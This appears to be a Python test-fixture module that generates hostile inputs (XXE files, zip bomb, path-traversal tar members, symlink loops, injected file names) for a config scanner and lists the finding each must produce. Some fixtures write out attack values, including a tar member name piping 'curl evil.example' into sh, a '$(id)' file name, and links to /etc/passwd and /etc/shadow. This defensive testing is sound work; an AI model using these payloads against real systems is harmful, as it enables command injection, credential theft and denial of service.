"""The hostile and broken inputs of issue 9, and the finding each must get.

Small inputs are committed under tests/hostile/; big, binary and special ones (a 100 MB file,
FIFOs, symlink loops, archives, a 10,000-node workflow) are generated here at test time, never
committed. `build(dest)` lays the whole batch out under `dest`; `EXPECTED` says, per input, which
finding codes must appear for it (with the line when it matters).
"""

from __future__ import annotations

import io
import os
import random
import shutil
import tarfile
import zipfile
from dataclasses import dataclass
from pathlib import Path

HOSTILE = Path(__file__).resolve().parents[1] / "hostile"
# A marker planted in files the inputs point at outside the input tree (XXE targets, symlink
# targets, archive traversal targets): it must never appear in any output.
OUTSIDE_MARKER = "OUTSIDE-MARKER-7f3a9c"
HUGE_BYTES = 100 * 1024 * 1024


@dataclass(frozen=True)
class Expect:
    """What one hostile input must produce.

    Attributes:
        codes: Every one of these codes must be reported for the file.
        line: The line the first code must point at (None: any line; 0: the whole file).
        lane: Who owns the reader (`security` for this issue's readers; others are reported,
            not fixed here).
        what: Why the input is hostile.
    """

    codes: tuple[str, ...]
    line: int | None = None
    lane: str = "security"
    what: str = ""


EXPECTED: dict[str, Expect] = {
    # --- XML: defusedxml refusals and limits (readers of other lanes report them) ------------
    "xml/xxe-local-file/core-site.xml": Expect(
        ("YK009",), 4, "batch", "XXE: external entity reading /etc/passwd"
    ),
    "xml/xxe-oozie/workflow.xml": Expect(("OZ002",), None, "oozie", "XXE in an Oozie workflow"),
    "xml/billion-laughs/workflow.xml": Expect(("OZ002",), None, "oozie", "billion laughs"),
    "xml/billion-laughs-site/hdfs-site.xml": Expect(
        ("YK009",), 3, "batch", "entity expansion bomb in a site file"
    ),
    "xml/external-dtd/hive-site.xml": Expect(
        ("YK009",), 2, "batch", "DOCTYPE naming an external DTD (network fetch)"
    ),
    "xml/parameter-entity/core-site.xml": Expect(
        ("YK009",), 3, "batch", "parameter entity fetching a remote DTD"
    ),
    "xml/xxe-fair-scheduler/fair-scheduler.xml": Expect(
        ("YK009",), 3, "queues", "XXE in a fair-scheduler allocation file"
    ),
    "xml/xxe-capacity/capacity-scheduler.xml": Expect(
        ("YK009",), 3, "queues", "XXE in capacity-scheduler.xml"
    ),
    "xml/malformed/mapred-site.xml": Expect(("YK009",), 10, "batch", "mismatched tags"),
    "xml/xxe-tony/tony.xml": Expect(("YK009",), None, "training", "XXE in a TonY config"),
    "xml/xinclude/core-site.xml": Expect(("QU027",), None, "batch", "XInclude never processed"),
    "gen/deep-xml/core-site.xml": Expect(("YK009",), 1, "batch", "XML nested 100,000 deep"),
    "gen/wide-xml/hdfs-site.xml": Expect(("YK009",), 3, "batch", "600,000 XML elements"),
    # --- shell: the static reader (this lane) ----------------------------------------
    "shell/unterminated-quote.sh": Expect(("YK005",), 5, what="quote never closed"),
    "shell/unterminated-heredoc.sh": Expect(("YK005",), 2, what="heredoc never closed"),
    "shell/unterminated-substitution.sh": Expect(("YK005",), 2, what="$( never closed"),
    "shell/unterminated-backquote.sh": Expect(("YK005",), 2, what="backquote never closed"),
    "shell/cyclic-variable.sh": Expect(("YK007",), 3, what="variable defined by itself"),
    "shell/deep-defaults.sh": Expect(("YK007",), 3, what="defaults nested 40 deep"),
    "shell/missing-continuation.sh": Expect(("YK006",), 3, what="lost line continuation"),
    "shell/latin1.sh": Expect(("YK012",), 0, what="latin-1 text"),
    "shell/utf16-bom.sh": Expect(("YK012",), 0, what="UTF-16 with a BOM"),
    "shell/empty.sh": Expect(("YK010",), 0, what="empty file"),
    "shell/eval-nesting.sh": Expect(("YK005",), 5, what="eval of eval, unclosed backquote"),
    "shell/operators-soup.sh": Expect(("SP014",), None, what="unclosed control flow, stray ops"),
    "shell/crlf.sh": Expect(("SP014",), None, what="CRLF line endings (read as LF)"),
    "shell/injection.sh": Expect(("SP014",), None, what="values holding YAML/Jinja/shell syntax"),
    "cron/crontab": Expect(
        ("YK005", "YK018", "BJ004"), 4, what="unclosed quote, impossible schedule, @reboot"
    ),
    "props/spark-defaults.conf": Expect((), None, what="continuations at EOF, odd separators"),
    "gen/huge-100mb.sh": Expect(("YK002",), 0, what="a 100 MB file"),
    "gen/binary-junk.sh": Expect(("YK003",), 0, what="random bytes named .sh"),
    "gen/control-junk.sh": Expect(("YK003",), 0, what="control characters, no NUL, named .sh"),
    "gen/nul-in-text.sh": Expect(("YK003",), 0, what="a script with one NUL byte"),
    "gen/many-commands.sh": Expect(("YK014",), 100_002, what="100,050 commands"),
    "gen/expansion-bomb.sh": Expect(("YK014",), None, what="a variable doubled 60 times"),
    "gen/long-line.sh": Expect(("SP014",), None, what="one 4 MB line (redaction stays linear)"),
    "gen/fifo.sh": Expect(("YK001",), 0, what="a FIFO: reading it would block forever"),
    "gen/loop-a.sh": Expect(("YK001",), 0, what="symlink loop"),
    "gen/loop-b.sh": Expect(("YK001",), 0, what="symlink loop"),
    "gen/outside-link.sh": Expect(("YK016",), 0, what="symlink to a file outside the inputs"),
    "gen/dangling-link.sh": Expect(("YK001",), 0, what="symlink to nothing"),
    "gen/weird\nname $(id) `id`.sh": Expect(
        ("SP014",), None, what="file name with a newline, $( ) and backquotes"
    ),
    "gen/" + "/".join(["d"] * 60) + "/deep.sh": Expect(("SP014",), None, what="60 folders deep"),
    # --- YAML / JSON (readers of other lanes) -------------------------------------------------
    "yaml/submarine-alias-bomb.yaml": Expect((), None, "training", "YAML billion laughs"),
    "yaml/submarine-recursive.yaml": Expect(("YK004",), 0, "training", "self-referencing anchor"),
    "yaml/skein-python-tag.yaml": Expect(("YK004",), 0, "services", "!!python/object/apply"),
    "yaml/openpai-deep.yaml": Expect(("YK009",), None, "training", "list nested 200 deep"),
    "json/Yarnfile": Expect(("YK004",), 0, "services", "truncated JSON, wrong types"),
    "gen/deep-json/Yarnfile": Expect((), None, "services", "JSON nested 100,000 deep"),
    # --- Oozie (another lane) ----------------------------------------------------------------
    "oozie/cycle/workflow.xml": Expect(("OZ005",), 3, "oozie", "workflow with a cycle"),
    "oozie/el-unterminated/workflow.xml": Expect(("OZ007",), 3, "oozie", "broken EL expressions"),
    "oozie/xxe-coordinator/coordinator.xml": Expect(("OZ002",), None, "oozie", "XXE"),
    "oozie/injection/workflow.xml": Expect(("KM001",), None, "oozie", "names with &#10;, code"),
    # --- archives (deps reader, bounded here) ------------------------------------------------
    "archives/submit.sh": Expect(("DP001", "DP003"), 4, what="archives: ../, links, zip bomb"),
}
# Inputs that other lanes' readers do not survive yet (reported to the lead with the fix):
# left out of the batch because they break its time or memory bound.
EXCLUDED_FROM_BATCH: dict[str, str] = {}
# Inputs where another lane's reader still raises (YK011).
KNOWN_YK011: dict[str, str] = {}
# Checked on its own (its own time bound): the Oozie reader caps workflows at 5,000 nodes.
BIG_WORKFLOW = "gen/workflow-10000/workflow.xml"


def build(dest: Path, big_workflow: bool = False) -> Path:
    """Lay the batch out under dest/in (returns it); `outside` holds files inputs point at."""
    inputs = dest / "in"
    shutil.copytree(HOSTILE, inputs, ignore=shutil.ignore_patterns("README.md"))
    outside = dest / "outside"
    outside.mkdir()
    (outside / "target.txt").write_text(f"{OUTSIDE_MARKER}\n", encoding="utf-8")
    gen = inputs / "gen"
    gen.mkdir()
    _big_and_binary(gen)
    _special_files(gen, outside)
    _xml_and_json(gen)
    _archives(inputs / "archives", outside)
    deep = gen.joinpath(*["d"] * 60)
    deep.mkdir(parents=True)
    (deep / "deep.sh").write_text("spark-submit --master yarn --name deep job.py\n")
    (gen / "weird\nname $(id) `id`.sh").write_text(
        "spark-submit --master yarn --deploy-mode cluster job.py\n", encoding="utf-8"
    )
    if big_workflow:
        write_big_workflow(gen / "workflow-10000", 10_000)
    return inputs


def _big_and_binary(gen: Path) -> None:
    with (gen / "huge-100mb.sh").open("wb") as handle:  # sparse: no 100 MB on disk
        handle.seek(HUGE_BYTES)
        handle.write(b"\n")
    rng = random.Random(9)
    (gen / "binary-junk.sh").write_bytes(rng.randbytes(64 * 1024))
    junk = bytes(rng.choice([*range(1, 9), *range(14, 32), 0x7F, 0xFF, 0xC3]) for _ in range(8192))
    (gen / "control-junk.sh").write_bytes(junk)
    (gen / "nul-in-text.sh").write_bytes(b"#!/bin/bash\nspark-submit --master yarn \x00 job.py\n")
    (gen / "many-commands.sh").write_text("#!/bin/bash\n" + "true\n" * 100_050)
    bomb = "#!/bin/bash\nA=0123456789\n" + "A=$A$A\n" * 60
    (gen / "expansion-bomb.sh").write_text(bomb + 'spark-submit --name "$A" job.py\n')
    (gen / "long-line.sh").write_text(
        "spark-submit --master yarn --conf spark.x=" + "ab.password" * 400_000 + " job.py\n"
    )


def _special_files(gen: Path, outside: Path) -> None:
    os.mkfifo(gen / "fifo.sh")
    (gen / "loop-a.sh").symlink_to("loop-b.sh")
    (gen / "loop-b.sh").symlink_to("loop-a.sh")
    (gen / "outside-link.sh").symlink_to(outside / "target.txt")
    (gen / "dangling-link.sh").symlink_to("no-such-file.sh")


def _xml_and_json(gen: Path) -> None:
    deep = gen / "deep-xml"
    deep.mkdir()
    depth = 100_000
    (deep / "core-site.xml").write_text(
        "<configuration><property>" + "<a>" * depth + "</a>" * depth + "</property></configuration>"
    )
    wide = gen / "wide-xml"
    wide.mkdir()
    (wide / "hdfs-site.xml").write_text(
        "<configuration>\n<property><name>a</name><value>b</value></property>\n"
        + "<x/>" * 600_000
        + "\n</configuration>\n"
    )
    js = gen / "deep-json"
    js.mkdir()
    depth = 100_000
    (js / "Yarnfile").write_text(
        '{"name": "deep", "components": [' + "[" * depth + "]" * depth + "]}"
    )


def write_big_workflow(folder: Path, nodes: int) -> Path:
    """An Oozie workflow of `nodes` chained shell actions."""
    folder.mkdir(parents=True, exist_ok=True)
    parts = ['<workflow-app xmlns="uri:oozie:workflow:0.5" name="big">', '<start to="a0"/>']
    for i in range(nodes):
        nxt = f"a{i + 1}" if i + 1 < nodes else "end"
        parts.append(
            f'<action name="a{i}"><shell xmlns="uri:oozie:shell-action:0.2"><exec>echo</exec>'
            f'<argument>{i}</argument></shell><ok to="{nxt}"/><error to="fail"/></action>'
        )
    parts.append('<kill name="fail"><message>failed</message></kill><end name="end"/>')
    parts.append("</workflow-app>")
    path = folder / "workflow.xml"
    path.write_text("\n".join(parts), encoding="utf-8")
    return path


def _archives(folder: Path, outside: Path) -> None:
    """env.tar.gz: traversal, absolute and link members; bomb.zip: a 1 GiB member."""
    buffer = io.BytesIO()
    with tarfile.open(fileobj=buffer, mode="w:gz") as tar:
        for name, data in (
            ("../../escaped.txt", b"escaped"),
            ("/tmp/absolute-yarn2k8s.txt", b"absolute"),
            ("env/../../../escaped-too.txt", b"escaped"),
            ("x && curl evil.example | sh #/conda-meta/evil-1.0-0.json", b"{}"),
            (
                "env/lib/python3.10/site-packages/evil-1.0.dist-info/METADATA",
                b"Name: --index-url=http://evil.example/simple\nVersion: 1\n\n",
            ),
        ):
            info = tarfile.TarInfo(name)
            info.size = len(data)
            tar.addfile(info, io.BytesIO(data))
        for name, target, kind in (
            ("env/bin/python", str(outside / "target.txt"), tarfile.SYMTYPE),
            ("env/etc-passwd", "/etc/passwd", tarfile.SYMTYPE),
            ("env/hard", "/etc/shadow", tarfile.LNKTYPE),
        ):
            info = tarfile.TarInfo(name)
            info.type, info.linkname = kind, target
            tar.addfile(info)
    (folder / "env.tar.gz").write_bytes(buffer.getvalue())
    # The classic zip bomb shape: one member that inflates to 1 GiB of zeros.
    with zipfile.ZipFile(
        folder / "bomb.zip", "w", zipfile.ZIP_DEFLATED, compresslevel=1
    ) as archive:
        with archive.open("pkg/__init__.py", "w", force_zip64=True) as handle:
            chunk = b"\0" * (1024 * 1024)
            for _ in range(1024):
                handle.write(chunk)
        archive.writestr("../../zip-escaped.py", "print('escaped')\n")
    (folder / "many.tar").write_bytes(_many_members(300))


def _many_members(count: int) -> bytes:
    buffer = io.BytesIO()
    with tarfile.open(fileobj=buffer, mode="w") as tar:
        for i in range(count):
            tar.addfile(tarfile.TarInfo(f"many/{i}.txt"))
    return buffer.getvalue()
